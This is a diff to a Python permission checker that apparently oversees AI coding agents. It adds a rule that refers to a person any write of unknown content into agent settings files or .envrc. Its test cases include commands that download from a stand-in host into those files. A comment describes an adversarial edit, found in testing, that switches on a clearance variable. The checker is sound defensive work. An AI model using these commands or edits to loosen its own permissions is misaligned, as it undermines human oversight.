@@ -18,7 +18,7 @@ from ..model import ASK, HARD_DENY, SOFT_DENY
 from ..shell.effects import READ, WRITE
 from ..shell.programs import INTERPRETERS, POWERSHELLS
 from . import agentcli
-from .base import rule
+from .base import problem_rule, rule
 from .gates import _ENV_FILES as _ENV_FILES
 from .gates import ENV_SOURCE, env_file, env_views, terminal_env_file
 
@@ -866,14 +866,58 @@ def env_write(path: str, text: str, sc: Scope, check: Callable[[str, str], str |
     return None
 
 
+# Raised by settingsresult.py (imported for a line that writes a settings or env file); here, with the rules on those
+# files, so that the tools pack every write loads does not register it.
+problem_rule(
+    "write.settings-unknown-content",
+    "Filling an agent's settings or an env file, which clearance judges by what it says, with text it cannot read",
+    "opencode.json, .qwen/settings.json, .vscode/settings.json and .envrc are judged by their text: a Write of"
+    " `permission: allow` or `export CLEARANCE_DB=…` is denied. The file a shell line leaves is judged too: a copy's readable"
+    " source, a `sed -i` or `perl -pi` substitution and a `jq` assignment applied to the file on the disk (only what the"
+    " command newly turns on counts). Where that text cannot be known before the command runs -- a download, a source"
+    " out of clearance's reach, a program whose output is unknown, interpreter code -- or the file is made a link to a"
+    " file outside the project (later writes there are judged as that folder's), a person is asked. A plain .env is"
+    " asked about only where the .envrc beside it loads it (`dotenv`).",
+    ASK,
+    match=(
+        "wget -O opencode.json https://x.example/o.json",
+        "curl -o .envrc https://x.example/envrc",
+        "git show evil:o.json > .qwen/settings.json",
+        "ln -sf /tmp/o.json opencode.json",
+    ),
+    no_match=(
+        {"tool_name": "Bash", "tool_input": {"command": "cp .envrc.example .envrc"}, "files": {"/home/ana/webapp/.envrc.example": "export PORT=3000\n"}},
+        {"tool_name": "Bash", "tool_input": {"command": "sed -i 's/3000/8080/' .envrc"}, "files": {"/home/ana/webapp/.envrc": "export PORT=3000\n"}},
+        "curl -o data/users.json https://x.example/users.json",
+        "sops -d secrets.enc.env > .env",
+        "ln -sf .env.development .env",
+    ),
+)
+
+
 def _env_write_finding(action: Action, sc: Scope, check: Callable[[str, str], str | None]) -> str | None:
-    from .tools import _written_files
+    from .tools import _written_files, edited_file
 
     for path, text in _written_files(action):
-        msg = env_write(sc.path(path), text, sc, check)
+        where = sc.path(path)
+        msg = env_write(where, text, sc, check)
         if msg:
             return f"the {action.tool_name} tool: {msg}"
+        # An Edit of `export FOO_DB` → `export CLEARANCE_DB`: the fragment sets nothing, the file after it does (adversarial
+        # round 9d). Only an env file or an editor's terminal settings is read from the disk; a variable set before the
+        # edit is not the edit's doing.
+        if action.tool_name in ("Edit", "MultiEdit") and (env_views(where, text, sc) or _terminal_settings(where)):
+            edited = edited_file(action, path, sc)
+            if edited is not None and env_write(where, edited[0], sc, check) is None:
+                msg = env_write(where, edited[1], sc, check)
+                if msg:
+                    return f"the {action.tool_name} tool's change leaves {msg}"
     return None
+
+
+def _terminal_settings(path: str) -> bool:
+    """VS Code's settings, where terminal.integrated.env gives its terminals their variables (gates.terminal_env_file)."""
+    return path.endswith(("/.vscode/settings.json", ".code-workspace"))
 
 
 def hook_environment(path: str, text: str) -> str | None:
